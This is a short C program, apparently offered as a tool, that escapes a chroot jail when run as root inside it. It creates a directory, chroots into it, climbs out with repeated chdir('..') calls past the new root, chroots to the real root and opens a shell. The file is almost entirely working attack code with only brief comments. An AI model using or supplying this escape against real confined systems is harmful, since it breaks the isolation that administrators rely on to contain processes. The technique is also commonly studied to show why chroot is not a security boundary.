/* escape: out of a chroot, for whoever is root in it. */
#define _DEFAULT_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define DEEPER_THAN_ANY 64

int main(void)
{
	int i;

	/* The root goes down into x; we stay where we are. */
	mkdir("x", 0700);
	if (chroot("x") == -1) {
		perror("chroot");
		return 1;
	}
	/* ".." stops at the root and nowhere else. */
	for (i = 0; i < DEEPER_THAN_ANY; i++)
		if (chdir("..") == -1) {
			perror("chdir");
			return 1;
		}
	if (chroot(".") == -1) {
		perror("chroot");
		return 1;
	}
	execl("/bin/sh", "sh", NULL);
	perror("execl");
	return 1;
}
